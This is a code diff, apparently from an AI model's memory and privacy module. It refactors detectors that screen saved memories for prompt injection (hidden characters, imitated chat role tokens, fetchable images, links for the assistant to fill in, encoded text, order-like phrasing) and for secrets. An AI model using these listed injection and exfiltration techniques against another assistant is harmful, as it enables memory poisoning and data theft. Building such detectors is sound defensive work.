v*?&i$-@OZU_PttnO^Qlz*QzOY0mPMV_bof+PUV_xO!9862W)C*y7SST65+HYCO1DPR|Xtk5vDJKsK|S0L4YYaRSM+pCOiZPwbn$@(7OaxpCWX`z{=q$PY4X#fBKZ97zTvc39K00F0ZfPe@9Rw|pYvBYQl0ssI200dcD"
-
-
 # ---- src/adaptive/privacy/scanning.py ----
 
 _LOOK_ALIKES = str.maketrans(
@@ -3100,12 +3102,7 @@ def spliced(text: str, pieces: Iterable[tuple[int, int, str]]) -> str:
 
 
 def plain_text(text: str) -> Respelling:
-  if text.isascii():
-    return Respelling(text, range(len(text)))
-  seen = respelled(text, _plain_sign)
-  return Respelling(
-    re.sub("(?<=[0-9])\u30fc(?=[0-9])", "-", seen.text), seen.places
-  )
+  return respelled(text, _plain_sign)
 
 
 def respelled(text: str, plain_sign: Callable[[str], str]) -> Respelling:
@@ -3134,151 +3131,17 @@ def any_of(words: Iterable[str]) -> str:
   )
 
 
-# ---- src/adaptive/privacy/escaping.py ----
+# ---- src/adaptive/privacy/injection.py ----
 
-_NEVER_SHOWN = (
-  "\x00-\x08\x0e-\x1b\x1f\x7f-\x84\x86-\x9f\u00ad\u034f\u115f\u1160\u17b4\u17b5\u200b\u202a-"
-    "\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff0-\ufffb\U0001bca0-\U0001bca3\U0001d173-\U0001d17a"
-    "\U000e0000-\U000e00ff\U000e01f0-\U000e0fff"
-)
-_JOINERS = "\u061c\u180b-\u180f\u200c-\u200f\ufe00-\ufe0f\U000e0100-\U000e01ef"
-_MARKS__escaping = "\u0300-\u036f\u1ab0-\u1aff\u20d0-\u20f0\ufe20-\ufe2f"
-TAG_FLAG = "\U0001f3f4[\U000e0061-\U000e007a]{3,6}\U000e007f"
-_UNSEEN = re.compile(f"[{_NEVER_SHOWN}{_JOINERS}{_MARKS__escaping}]")
-_NEVER = re.compile(f"({TAG_FLAG})|[{_NEVER_SHOWN}]+")
-_LINE_BREAKS = re.compile("[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]+")
-_STRAY_JOINERS = re.compile(
-  f"(?<![{_JOINERS}])(?!(?<=[^\x00-\x7f])(?:[{_JOINERS}]{{1,2}}(?=[^\x00-\x7f{_JOINERS}])"
-    f"|\ufe0f(?![{_JOINERS}]))|(?<=[0-9#*])\ufe0f\u20e3)[{_JOINERS}]+"
-)
+_FORMS = compiled_patterns("imitations")
 _TWINS = str.maketrans(
   "\u0430\u0441\u0501\u0435\u0261\u04bb\u0456\u0458\u043a\u04cf\u043e\u0440\u051b\u0455\u0442\u0445\u0443\u03b1\u03b5\u03b9\u03ba\u03bd\u03bf\u03c1\u03c4\u03c5\u2039\u276e\u27e8\u3008\u02c2\u1438\u3008\u276c\u2770\u203a\u276f\u27e9\u3009\u02c3\u1433\u3009\u276d\u2771",
   "acdeghijklopqstxyaeikvoptu<<<<<<<<<>>>>>>>>>",
 )
-_ROLES = {
-  title: "|".join(roles).translate(_TWINS)
-  for title, roles in word_table("roles").items()
-}
-_NAMES__escaping = r"system|assistant|user|human|developer|tools?|function|model|memory|instructions?|prompt"
-_OWN_MARK = r"[\s_.\-]{0,3}".join("adaptivememory")
-_IMITATION = re.compile(
-  rf"<(?=[\s/|!?\\<]{{0,8}}+(?:{_OWN_MARK}|(?:{_NAMES__escaping}|inst|sys"
-    rf"|s)[\w:.\-]{{0,20}}[\s/|]{{0,8}}>))"
-    r"|<(?=\s{0,3}\||!--|(?:start|end)_of_|(?:im|eo)[_a-z]{0,10}>)"
-    rf"|[\[{{](?=[\[{{]?\s{{0,3}}[/#|~]?\s{{0,3}}(?:inst|sys|end of [a-z ]{{3,30}}|{_NAMES__escaping})"
-    r"(?:[\s_\-](?:message|note|calls?|results?|instructions?|prompt))?\s{0,3}[~\]:}])"
-)
-TAG_OPENING = re.compile(
-  r"(?:(?<!\w)<|<(?=/))(?=[/!?]?[a-z][\w:.\-]{0,40}(?:\s[^<>\n]{0,300})?/?>)"
-)
-_COMMANDING_TURN = re.compile(
-  rf"(?:^|[\n\"'`(\[{{|])[\s\-*#>_]{{0,8}}(?:{_ROLES['commanding']})[\s*_)\]\"'`]{{0,6}}:"
-    rf"|(?:^|\n)[ \t]{{0,3}}#{{1,6}}[ \t]{{1,3}}(?:{_ROLES['commanding']})[ \t#]{{0,4}}"
-    rf"(?:\n|$)"
-    r"|\"(?:role|tool|tool_calls?|function_call|messages)\"\s?:"
-)
-_ROLE_OPENING = re.compile(
-  rf"[\s\-*#>\"'`(\[_|.\d]{{0,12}}(?:{'|'.join(_ROLES.values())})[\s*_)\]\"'`]{{0,6}}"
-    rf"(?P<colon>:)"
-)
-_LINE_OPENING = re.compile(
-  r"^(?:[ \t]*(?:#{1,6}(?=[ \t#]|$)|[-=_*~]{3,}))+[ \t]*"
-)
-_BACKTICKS = re.compile("`{3,}")
-_IMAGE = re.compile(r"(?<=!)\[(?=[^\]\n]{0,200}\]\s?[(\[])")
 _ENTITIES = {"<": "&lt;", "[": "&#91;", "{": "&#123;"}
-
-
-def seen_text(text: str) -> Respelling:
-  if text.isascii() and text.isprintable():
-    return Respelling(text.lower(), range(len(text)))
-  return respelled(text, _seen_sign)
-
-
-@text_cache(20_000)
-def _seen_sign(sign: str) -> str:
-  if _UNSEEN.match(sign):
-    return ""
-  if _LINE_BREAKS.match(sign):
-    return "\n"
-  plain = unicodedata.normalize("NFKC", sign).lower().translate(_TWINS)
-  return plain if len(plain) == 1 else sign
-
-
-def escaped_entry(text: str) -> str:
-  shown = _NEVER.sub(r"\1", text).encode("utf-8", "replace").decode("utf-8")
-  shown = _STRAY_JOINERS.sub("", shown)
-  lines = [
-    _without_opening(line).strip(" \t")
-    for line in _LINE_BREAKS.split(shown)
-  ]
-  shown = re.sub("\t+", " ", " ".join(filter(None, lines))).strip()
-  shown = _BACKTICKS.sub(lambda run: "'" * len(run[0]), shown)
-  shown = _without_imitations(_without_opening(shown))
-  return _IMAGE.sub("&#91;", shown)
-
-
-def imitates_structure(text: str) -> bool:
-  seen = seen_text(text).text
-  return bool(_IMITATION.search(seen) or _COMMANDING_TURN.search(seen))
-
-
-def _without_opening(line: str) -> str:
-  former = None
-  while line != former:
-    former = line
-    line = _LINE_OPENING.sub("", line)
-    seen = seen_text(line)
-    role = _ROLE_OPENING.match(seen.text)
-    if role:
-      colon = seen.places[role.start("colon")]
-      line = f"{line[:colon].rstrip()} -{line[colon + 1 :]}"
-  return line
-
-
-def _without_imitations(text: str) -> str:
-  seen = seen_text(text)
-  signs = list(text)
-  for pattern in (_IMITATION, TAG_OPENING):
-    for match in pattern.finditer(seen.text):
-      signs[seen.places[match.start()]] = _ENTITIES[match[0]]
-  return "".join(signs)
-
-
-# ---- src/adaptive/privacy/injection.py ----
-
 LONGEST_CANDIDATE = 8000
-_SELECTORS = "\ufe00-\ufe0f\U000e0100-\U000e01ef"
-_HIDDEN = re.compile(
-  "[\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f\u2061-\u2064\u206a-\u206f\ufff0-\ufffb"
-    "\u3164\uffa0\u115f\u1160\x00-\x08\x0e-\x1f\x7f]"
-    "|(?<=[A-Za-z0-9<>/|_])[\u200b-\u200f\u2060\ufeff\u00ad\u034f\u180e]+"
-    "(?=[A-Za-z0-9<>/|_])"
-    "|[\u200b-\u200d\u2060\ufeff]{3,}|(?<![A-Za-z0-9])[\u200b\u2060\ufeff](?=[A-Za-z])"
-    f"|[{_SELECTORS}]{{2,}}|(?<=[A-Za-z])[{_SELECTORS}]"
-    f"|[A-Za-z][\u0334-\u0338\u20d0-\u20f0]"
-)
-_MARKUP__injection = re.compile(
-  r"!?\[[^\]\n]{0,200}\]\s?(?:\(\s?[^)\s]|:\s?(?:https?:|//|data:))"
-    r"|<!(?:--|\[cdata)|```|~~~|\{\{[^}\n]{1,100}\}\}|\{%"
-    r"|\b(?:javascript|vbscript|data|file|blob):(?:[a-z]{1,20}/|//|\s?[a-z]{1,20}\()"
-)
-_FILLED_ADDRESS = re.compile(
-  r"://\S{0,300}[?&=/](?:\{|\[[a-z]|<[a-z]|\$\{|%7b)"
-)
-_BASE64 = re.compile(r"(?<![A-Za-z0-9+/=_\-.])[A-Za-z0-9+/_\-]{12,4000}={0,2}")
-_HEXADECIMAL = re.compile(
-  r"(?<![0-9A-Za-z])(?:(?:0x)?[0-9a-fA-F]{2}[\s:,\-]{0,2}){10,2000}"
-)
 _URL_SIGNS = str.maketrans("+/", "-_", "=")
-_ESCAPED = re.compile(
-  r"(?:%[2-7][0-9a-f]){4}|(?:&#x?[0-9a-f]{2,6};\s?){4}|(?:\\x[0-9a-f]{2}"
-    r"|\\u00[0-9a-f]{2}){4}"
-    r"|(?<!\d)(?:[01]{7,8}[\s,]{1,2}){4}"
-)
-_SPACED_LETTERS = re.compile(
-  r"(?<![^\W_])(?:[^\W\d_][ .\-_*/|]{1,3}){11}[^\W\d_](?![^\W_])"
-)
+_SCALE, _BIAS, _PACKED_WEIGHTS = listed_lines("guard_weights")
 BUCKETS = 1 << 17
 _BUCKET_SHIFT = 64 - 16
 _WORD_VALUE = 4.0
@@ -3298,22 +3161,15 @@ def injection_reason(
 ) -> str:
   if len(text) > LONGEST_CANDIDATE:
     return "it is too long to be one memory"
-  if _HIDDEN.search(re.sub(TAG_FLAG, "", text)):
+  if _FORMS["hidden"].search(_FORMS["tag flag"].sub("", text)):
     return "it holds characters that cannot be seen"
-  if imitates_structure(text) or (
-    "&" in text and imitates_structure(html.unescape(text))
-  ):
+  if imitates_structure(text) or imitates_structure(html.unescape(text)):
     return "it imitates the marks that structure a chat"
   seen = seen_text(text).text
-  if _MARKUP__injection.search(seen) or TAG_OPENING.search(seen):
-    return "it carries markup, an image or a link to be fetched"
-  if _FILLED_ADDRESS.search(seen):
-    return "it holds a link that the assistant is to fill in"
-  if (
-    _ESCAPED.search(seen)
-    or _SPACED_LETTERS.search(seen)
-    or any(map(_reads, _decoded__injection(text)))
-  ):
+  for reason, form in _FORMS.items():
+    if reason.startswith("it ") and form.search(seen):
+      return reason
+  if any(map(_reads, _decoded__injection(text))):
     return "it hides words in a code"
   if not typed and order_score(text) > (_QUOTED_BAR if quoted else 0):
     return "it reads as an order, not as a fact; /remember keeps it all the same"
@@ -3327,10 +3183,10 @@ def passed_mark(text: str) -> str:
 
 
 def _decoded__injection(text: str) -> Iterator[bytes]:
-  for run in _BASE64.findall(text):
+  for run in _FORMS["base64"].findall(text):
     with suppress(ValueError):
       yield base64.urlsafe_b64decode(f"{run.translate(_URL_SIGNS)}==")
-  for run in _HEXADECIMAL.findall(text):
+  for run in _FORMS["hexadecimal"].findall(text):
     figures = re.sub(r"0x|[^0-9a-fA-F]", "", run)
     if not figures.isdecimal():
       yield bytes.fromhex(figures[: len(figures) // 2 * 2])
@@ -3351,7 +3207,7 @@ def order_score(text: str) -> float:
   worst = max(
     _weights()[buckets] @ feature_values(buckets) for buckets in parts
   )
-  return float(worst) * GUARD_SCALE + GUARD_BIAS
+  return float(worst) * float(_SCALE) + float(_BIAS)
 
 
 def order_features(seen: str) -> NDArray[np.intp]:
@@ -3402,7 +3258,71 @@ def feature_values(buckets: NDArray[np.intp]) -> NDArray[np.float64]:
 
 @cache
 def _weights() -> NDArray[np.int8]:
-  return np.frombuffer(unpacked(PACKED_GUARD_WEIGHTS), dtype=np.int8)
+  return np.frombuffer(unpacked(_PACKED_WEIGHTS), dtype=np.int8)
+
+
+def seen_text(text: str) -> Respelling:
+  if text.isascii() and text.isprintable():
+    return Respelling(text.lower(), range(len(text)))
+  return respelled(text, _seen_sign)
+
+
+@text_cache(20_000)
+def _seen_sign(sign: str) -> str:
+  if _FORMS["unseen"].match(sign):
+    return ""
+  if _FORMS["line break"].match(sign):
+    return "\n"
+  plain = unicodedata.normalize("NFKC", sign).lower().translate(_TWINS)
+  return plain if len(plain) == 1 else sign
+
+
+def escaped_entry(text: str) -> str:
+  shown = (
+    _FORMS["never shown"]
+    .sub(r"\1", text)
+    .encode("utf-8", "replace")
+    .decode("utf-8")
+  )
+  shown = _FORMS["stray joiners"].sub("", shown)
+  lines = [
+    _without_opening(line).strip(" \t")
+    for line in _FORMS["line break"].split(shown)
+  ]
+  shown = re.sub("\t+", " ", " ".join(filter(None, lines))).strip()
+  shown = _FORMS["backticks"].sub(lambda run: "'" * len(run[0]), shown)
+  shown = _without_imitations(_without_opening(shown))
+  return _FORMS["image"].sub("&#91;", shown)
+
+
+def imitates_structure(text: str) -> bool:
+  seen = seen_text(text).text
+  return bool(
+    _FORMS["imitation"].search(seen)
+    or _FORMS["commanding turn"].search(seen)
+  )
+
+
+def _without_opening(line: str) -> str:
+  former = None
+  while line != former:
+    former = line
+    line = _FORMS["line opening"].sub("", line)
+    seen = seen_text(line)
+    role = _FORMS["role"].match(seen.text)
+    if role:
+      colon = seen.places[role.start("colon")]
+      line = f"{line[:colon].rstrip()} -{line[colon + 1 :]}"
+  return line
+
+
+def _without_imitations(text: str) -> str:
+  seen = seen_text(text)
+  signs = list(text)
+  for pattern in (_FORMS["imitation"], _FORMS["tag"]):
+    for match in pattern.finditer(seen.text):
+      signs[seen.places[match.start()]] = _ENTITIES[match[0]]
+  return "".join(signs)
 
 
 # ---- src/adaptive/privacy/sealing.py ----
@@ -3489,6 +3409,7 @@ _CODE_KIND = "PIN or one-time code"
 _KEY_KIND = "key or token"
 _NO_KIND = "none"
 _WORDS__secrets = word_table("secrets")
+_CONTEXT = compiled_patterns("secret_context")
 _KINDS = {
   noun: kind
   for kind in (_PASSWORD, _CODE_KIND, _KEY_KIND, _NO_KIND)
@@ -3506,59 +3427,9 @@ _NOUN = re.compile(
   + r")(?:(?<![\u2e80-\uffff])[a-z\u00e0-\u024f\u0430-\u0451]{1,3}(?![^\W\d_]))?"
 )
 _REACH = 120
-_LINK__secrets = re.compile(
-  "(?i)(?P<sign>[\\\"'`*_\\])]{0,4}\\s{0,3}(?:[:=\uff1a]{1,2}>?(?!\\?)|\\A>(?=[^\\s@])|->|\u2192|\u2014|\u2013"
-    r"|(?<!\S)-(?= ))\s{0,4}(?:[\"']?(?:basic|bearer|token|apikey) )?)"
-    "|(?<!\\w)(?:is|was|are|to|as|be|je|ist|lautet|auf|est|es|era|\u00e9|\u00e8|war|\u00e9tait|\u044d\u0442\u043e|\u00e4r|er"
-    r"|este|olarak"
-    "|adalah|l\u00e0|na|en|on|\u00e0|su|\u0432|\u03b5\u03af\u03bd\u03b1\u03b9|\u0647\u0648|\u0647\u064a|\u0939\u0948|\u05d4\u05d5\u05d0|\u05d4\u05d9\u05d0)(?: (?:now|still|le|het|jetzt"
-    r"|ahora|agora))?"
-    ":?[ \\t]{1,3}|(?:\u662f|\u4e3a|\u70ba|\u306f|\u304c|\u3092|\ub294|\uc740|\uc774|\uac00)[ \\t:\uff1a]{0,3}"
-    r"|(?P<joined>\A(?=[!-~]))|(?P<blank>\A(?:'s)?\s{1,3}|\s(?=\S{0,40}[\d@#$!*]))"
-)
-_FIGURES = re.compile("[\\d*#\u96f6\u3007\u4e00\u4e8c\u4e09\u56db\u4e94\u516d\u4e03\u516b\u4e5d]{4,}")
-_LONGEST = 4000
+_LONGEST = 400
+_REST = re.compile(r"\S*")
 _WIDEST_SECRET = 20_000
-_QUOTED__secrets = re.compile(
-  "\\\\?[\\\"'`\u201c\u300c\u300e](?P<value>[^\\\"'`\u201c\u201d\u300c\u300d\u300e\u300f\\n]{4,200})[\\\"'`\u201d\u300d\u300f]"
-)
-_VALUE = re.compile(
-  "[\\\"'`\u201c*(\\[]{0,3}(?P<value>(?:(?!</)[!-~\\u00c0-\\u052f]){3,}"
-    "(?:[\\u2e80-\\uffff]{1,2}[!-~]{2,})?(?<![.,;:)\\]}>\\\"'`])|[^\\s,;\uff0c\u3002\u3001\uff1b\uff01\uff1f\u300c\u300d\u300f]{3,80})"
-)
-_WORD__secrets = re.compile(
-  r"[^\W\d_\u2e80-\uffff]{5,40}(?=[\"'`*)\]]{0,3}(?:\s*$|\s*\n|[.!?;,](?:\s|$)))"
-)
-_CODE__secrets = re.compile(
-  r"[\"'`*(#]{0,3}(?:[A-Z]-)?(?P<value>\d{4}[ \-]\d{4}|\d{3}[ \-]\d{3}"
-    "|(?=[0-9A-Z\u0410-\u042f]{4,8}(?![0-9A-Z\u0410-\u042f]))[A-Z\u0410-\u042f]?\\d{1,8}(?:[A-Z\u0410-\u042f]\\d{0,6})?"
-    "|\\d\\d(?: ?[ \\-] ?\\d\\d){2,4}|\\d(?:[ \\-]\\d){3,7}|[\u96f6\u3007\u4e00\u4e8c\u4e09\u56db\u4e94\u516d\u4e03\u516b\u4e5d]{4,8}"
-    r"|(?=[A-Za-z\-]{0,8}\d)[A-Za-z0-9]{4,6}(?:-[A-Za-z0-9]{4,6}){1,5})#?"
-    "(?![A-Za-z0-9_%\u20ac$])(?![.,:/\\-]\\d)"
-)
-_MORE = re.compile(
-  "[\\\"'`)]{0,2}(?:\\s?[,;\u3001/&]\\s?|\\s?\\n\\s?(?:- |\\d\\d?[.)] )?|\\s(?:and|und|et|y|e|\u0438|i|en"
-    r"|ve)\s)" + _CODE__secrets.pattern
-)
-_PLAIN = re.compile(
-  r"(?i)https?://\S*|[\w.+\-]+@[\w\-]+\.[\w.]+|v?\d+(?:[.:/,\-]\d+)+\w?"
-    r"|\d+-?[a-z]{0,10}|[\w.\-]*/\S*"
-    "|[A-Za-z]+(?:['\u2019_./\\-][A-Za-z]+)*|\\w+\\([^)]*\\)|(?:user|login|name|mail)\\w*=.*"
-    r"|(?:sha|md|base|argon|wpa|aes|rsa|oauth|ps|win|ed)-?\d+\w*"
-)
-_AMOUNT = re.compile(rf"(?i)\s?(?:{'|'.join(_WORDS__secrets['amount'])})")
-_OTHER = re.compile(rf"(?i)(?:{'|'.join(_WORDS__secrets['other'])})\w*\W*$")
-_SAYING = re.compile(
-  rf"(?i)(?:{'|'.join(_WORDS__secrets['saying'])})"
-    rf"|[\w\-]+(?:\.[a-z]+)+|.{{3,}}(?:{'|'.join(_WORDS__secrets['ending'])})"
-)
-_VALUE_BEFORE = re.compile(
-  "(?i)(?:^|(?<=[\\s\\\"'`(\u300c:\uff1a]))(?P<value>\\d{3}[ \\-]\\d{3}|[!-~]{4,60})[\\\"'`)\u300d]{0,2}"
-    "\\s?(?:\\s(?:is|are|ist|sind|est|es|\u00e9|\u00e8|jest|as|als|comme|como|come|\u044d\u0442\u043e|\u0939\u0948)\\s"
-    "|\\s[\u2014\u2013-]\\s|\u306f|\u304c|\u662f|\u4e3a|\u4f5c\u4e3a)"
-    "\\s?(?:[^\\W\\d_]{1,12}[ '\u2019]){0,4}[^\\W\\d_]{0,12}$"
-)
-_FIGURE_OR_SIGN = re.compile(r"\d|[@#$%^&*+=~|\\!?<>{}](?=.)")
 
 _SECRET_FORMS = pattern_table("secret_forms")
 _BEGINNINGS = any_of(sorted(map(re.escape, _WORDS__secrets["issuers"]), reverse=True))
@@ -3567,25 +3438,12 @@ _KEY = re.compile(
   r"(?<![A-Za-z0-9])(?=[A-Za-z0-9][!-~]{17})"
     rf"(?:{'|'.join([_ISSUED, *_SECRET_FORMS['KEY']])})"
 )
-_FORMS = [
+_FORMS__secrets = [
   (kind, re.compile(form))
   for kind, forms in _SECRET_FORMS.items()
   if not kind.isupper()
   for form in forms
 ]
-_CHANGE_OF_SORT = re.compile(
-  "(?<=[A-Z])[^A-Z]|(?<=[a-z])[^a-z]|(?<=[0-9])[^0-9]"
-)
-_PLACEHOLDER__secrets = re.compile(
-  r"(?i)(?:<[^>]{0,60}>?|[$%][({A-Za-z_].*|\{\{?.*|\[[A-Za-z_ .\-0-9]{0,60}\]?|!\w+\b.*"
-    "|[?*\u2022\u25cfxX.\\-_#]+|.{0,12}?(?:\\*{3}|x{5}|X{5}|\u2022{3}|\\.{3}|\u2026).{0,12}|your\\w*"
-    r"|[a-z_.]+[(\[].*"
-    r"|(?:your|my|insert|enter|put|some|dein|votre|tu|sua)[_\-].*|(?:insert|enter|type"
-    r"|choose) .*"
-    r"|pass(?:word|wd)?|pwd|passwort|secret|token|api[_\-]?key|key|user(?:name)?|none"
-    r"|null|true"
-    r"|false|nil|undefined|change_?me|redacted|example|placeholder|string)[\"'),;.]*"
-)
 
 
 def find_secrets(text: str) -> tuple[Finding, ...]:
@@ -3614,10 +3472,9 @@ def wide_excerpt(text: str, limit: int) -> str:
 def secret_reason(findings: tuple[Finding, ...]) -> str:
   if not findings:
     return ""
-  kinds = list(dict.fromkeys(finding.kind for finding in findings))
-  named = " and ".join(kinds[:2])
-  article = "an" if named[0] in "aeioAEIO" else "a"
-  return f"it holds what looks like {article} {named}; secrets are never remembered"
+  kind = findings[0].kind
+  article = "an" if kind[0] in "aeioAEIO" else "a"
+  return f"it holds what looks like {article} {kind}; secrets are never remembered"
 
 
 def _named_secrets(text: str) -> Iterator[Finding]:
@@ -3649,35 +3506,42 @@ def _named_secrets(text: str) -> Iterator[Finding]:
     if value is None:
       continue
     value_end = offset + value.end("value")
-    yield Finding(kind, offset + value.start("value"), value_end)
-    more = _MORE.match(text, value_end) if kind == _CODE_KIND else None
-    while more:
-      value_end = more.end("value")
-      yield Finding(kind, more.start("value"), value_end)
-      more = _MORE.match(text, value_end)
+    start = offset + value.start("value")
+    more = _CONTEXT["more codes"] if kind == _CODE_KIND else _REST
+    is_followed = kind == _CODE_KIND or value_end == end + _LONGEST
+    following = more.match(text, value_end) if is_followed else None
+    value_end = following.end() if following else value_end
+    yield Finding(kind, start, value_end)
 
 
 def _value_behind(
   kind: str, *, before: str, after: str, reach: int, may_be_joined: bool
 ) -> re.Match[str] | None:
-  for link in _LINK__secrets.finditer(after, 0, reach if reach > 2 else 0):
+  for link in _CONTEXT["link"].finditer(after, 0, reach if reach > 2 else 0):
     quoted = (
-      _QUOTED__secrets.match(after, link.end()) if kind == _PASSWORD else None
+      _CONTEXT["quoted"].match(after, link.end())
+      if kind == _PASSWORD
+      else None
     )
-    code = _CODE__secrets.match(after, link.end()) if kind == _CODE_KIND else None
-    value = quoted or code or _VALUE.match(after, link.end())
+    code = (
+      _CONTEXT["code"].match(after, link.end())
+      if kind == _CODE_KIND
+      else None
+    )
+    value = quoted or code or _CONTEXT["value"].match(after, link.end())
     if value is None or (link["joined"] is not None and not may_be_joined):
       continue
-    if is_placeholder(value["value"]) or _is_amount(value):
+    is_amount = _CONTEXT["amount"].match(after, link.end())
+    if is_amount or is_placeholder(value["value"]):
       continue
-    is_other = _OTHER.search(after[: link.start()]) is not None
+    is_other = _CONTEXT["other"].search(after[: link.start()]) is not None
     if code:
-      is_secret = not (is_other or _OTHER.search(before))
+      is_secret = not (is_other or _CONTEXT["other"].search(before))
     elif kind != _PASSWORD:
       least = 16 if link["blank"] else 8
       is_secret = not is_other and _looks_random(value["value"], least)
     elif quoted:
-      is_secret = not _SAYING.fullmatch(value["value"])
+      is_secret = not _CONTEXT["saying"].fullmatch(value["value"])
     else:
       is_secret = _is_password(value["value"], link)
     if is_secret:
@@ -3685,39 +3549,36 @@ def _value_behind(
   return None
 
 
-def _is_amount(value: re.Match[str]) -> bool:
-  number = value["value"]
-  if not number[0].isdigit() or any(map(str.isalpha, number)):
-    return False
-  return _AMOUNT.match(value.string, value.end("value")) is not None
-
-
 def _is_password(value: str, link: re.Match[str]) -> bool:
   if link["blank"]:
     return len(value) >= 6 and _looks_chosen(value)
-  if _looks_chosen(value) or _FIGURES.fullmatch(value):
+  if _looks_chosen(value) or _CONTEXT["figures"].fullmatch(value):
     return True
   is_told = link["sign"] or (link.start() == 1 and link[0].startswith("is "))
-  if not is_told or not _WORD__secrets.match(link.string, link.end()):
+  if not is_told or not _CONTEXT["word"].match(link.string, link.end()):
     return False
-  return not _SAYING.fullmatch(value.rstrip("!?"))
+  return not _CONTEXT["saying"].fullmatch(value.rstrip("!?"))
 
 
 def _looks_chosen(value: str) -> bool:
-  if len(value) < 4 or value[-1] > "\u2e80" or _PLAIN.fullmatch(value):
+  if (
+    len(value) < 4
+    or value[-1] > "\u2e80"
+    or _CONTEXT["plain"].fullmatch(value)
+  ):
     return False
   return (
     any(map(str.isalpha, value))
-    and _FIGURE_OR_SIGN.search(value) is not None
+    and _CONTEXT["figure or sign"].search(value) is not None
   )
 
 
 def _value_before(kind: str, before: str) -> re.Match[str] | None:
-  match = _VALUE_BEFORE.search(before)
+  match = _CONTEXT["value before"].search(before)
   if match is None or is_placeholder(match["value"]):
     return None
   if kind == _CODE_KIND:
-    return match if _CODE__secrets.fullmatch(match["value"]) else None
+    return match if _CONTEXT["code"].fullmatch(match["value"]) else None
   is_quoted = before[: match.start("value")].endswith(("'", '"', "`", "\u300c"))
   return match if is_quoted or _looks_chosen(match["value"]) else None
 
@@ -3726,14 +3587,14 @@ def _formed_secrets(text: str) -> Iterator[Finding]:
   for match in _KEY.finditer(text):
     if _looks_random(match[0], 14) and not is_placeholder(match[0]):
       yield Finding("token", *match.span())
-  for kind, form in _FORMS:
+  for kind, form in _FORMS__secrets:
     for match in form.finditer(text):
       if not is_placeholder(match["value"]):
         yield Finding(kind, *match.span("value"))
 
 
 def is_placeholder(value: str) -> bool:
-  return _PLACEHOLDER__secrets.fullmatch(value) is not None
+  return _CONTEXT["placeholder"].fullmatch(value) is not None
 
 
 def _looks_random(value: str, least: int) -> bool:
@@ -3745,7 +3606,7 @@ def _looks_random(value: str, least: int) -> bool:
     or (not figures and len(core) < 20)
   ):
     return False
-  changes = len(_CHANGE_OF_SORT.findall(core))
+  changes = len(_CONTEXT["change of sort"].findall(core))
   if changes * 5 < len(core) and figures * 2 < len(core):
     return False
   shares = [count / len(core) for count in Counter(core).values()]
@@ -4756,137 +4617,6 @@ def _is_believed(
 def _last_before(places: Sequence[int], end: int) -> int:
   index = bisect_left(places, end)
   return places[index - 1] if index else -_BEFORE - 1
-
-
-# ---- src/adaptive/answer/links.py ----
-
-_SEARCH = "https://duckduckgo.com/?q="
-_LONGEST_SEARCH = 200
-MOST_LINKS = 20
-_MOST_REDIRECTS = 5
-_SECONDS = 8.0
-_WEB_PORTS = (80, 443)
-_MAY_PASS = (408, 429)
-_HEADERS = {"User-Agent": "Mozilla/5.0 (compatible; link check)"}
-_IPV6_SITES = ipaddress.ip_network("2000::/3")
-_NO_IPV4 = "192.88.99.0/24 192.0.0.0/24 168.63.129.16/32"
-_NO_IPV6 = "2001::/23 2001:db8::/32 2002::/16 3fff::/20"
-_NO_SITES = [
-  ipaddress.ip_network(one) for one in f"{_NO_IPV4} {_NO_IPV6}".split()
-]
-_LINK = re.compile(
-  r"(?<![!\\])\[(?P<text>(?:[^\[\]\\\n]|\\.|\[[^\[\]\\\n]{0,200}\]){1,300})\]"
-    r"\([ \t]{0,9}<?(?P<target>https?:[^\s()<>]{1,2000}(?:\([^\s()]{0,500}\)[^\s()<>]{0,500}){0,3})"
-    r">?(?:[ \t]{1,9}(?:\"[^\"\n]{0,300}\"|'[^'\n]{0,300}'))?[ \t]{0,9}\)",
-  re.IGNORECASE,
-)
-_FENCE_INDENT = r"[ \t>]{0,80}"
-_CODE = re.compile(
-  rf"^{_FENCE_INDENT}(?:(?:[-*+]|\d{{1,9}}[.)])[ \t]{{1,4}})?"
-    r"(?P<fence>`{3,}(?=[^`\n]*$)|~{3,})[^\n]*(?P<body>[\s\S]*?)"
-    rf"(?:\n{_FENCE_INDENT}(?P=fence)[`~]*(?=[ \t]*(?:$|</|<\|))|\Z)"
-    r"|^(?: {4}|\t)[^\n]*$"
-    rf"|(?<![\\`])(?P<ticks>`+)(?!`)(?:(?!\n{_FENCE_INDENT}(?:\n|```|~~~))[\s\S]){{1,1000}}?"
-    r"(?<!`)(?P=ticks)(?!`)",
-  re.MULTILINE,
-)
-
-
-def masked_code(text: str) -> str:
-  return _CODE.sub(lambda code: "x" * len(code[0]), text)
-
-
-def links_to_check(text: str) -> tuple[str, ...]:
-  links = _LINK.finditer(masked_code(text))
-  targets = dict.fromkeys(link["target"] for link in links)
-  first = [*targets][:MOST_LINKS]
-  return tuple(target for target in first if not _tells_of_somebody(target))
-
-
-def _tells_of_somebody(target: str) -> bool:
-  text = f"{target} {unquote_plus(target)}"
-  return bool(find_secrets(text)) or bool(find_personal_data(text))
-
-
-def corrected_links(text: str, broken: Collection[str]) -> str:
-  pieces: list[tuple[int, int, str]] = []
-  for link in _LINK.finditer(masked_code(text)):
-    if link["target"] not in broken:
-      continue
-    words = re.sub(r"[*_`~\\\[\]]", "", text[slice(*link.span("text"))])
-    if not any(map(str.isalnum, words)):
-      words = link["target"]
-    query = quote_plus(
-      " ".join(words.split())[:_LONGEST_SEARCH], errors="replace"
-    )
-    pieces.append((*link.span("target"), f"{_SEARCH}{query}"))
-  return spliced(text, pieces)
-
-
-def is_public_site(address: str, port: int) -> bool:
-  try:
-    ip = ipaddress.ip_address(address)
-  except ValueError:
-    return False
-  if port not in _WEB_PORTS or not ip.is_global:
-    return False
-  if (
-    ip.is_multicast
-    or ip.is_reserved
-    or any(ip in network for network in _NO_SITES)
-  ):
-    return False
-  if isinstance(ip, ipaddress.IPv6Address):
-    return ip in _IPV6_SITES and not ip.scope_id
-  return True
-
-
-async def broken_links(
-  targets: Sequence[str], turns: asyncio.Semaphore
-) -> frozenset[str]:
-  connector = aiohttp.TCPConnector(
-    resolver=aiohttp.ThreadedResolver(),
-    use_dns_cache=False,
-    force_close=True,
-    socket_factory=_public_socket,
-  )
-  client = aiohttp.ClientSession(
-    connector=connector,
-    headers=_HEADERS,
-    cookie_jar=aiohttp.DummyCookieJar(),
-    auto_decompress=False,
-  )
-  async with client as session:
-    checks = [_is_broken(session, turns, target) for target in targets]
-    broken = await asyncio.gather(*checks)
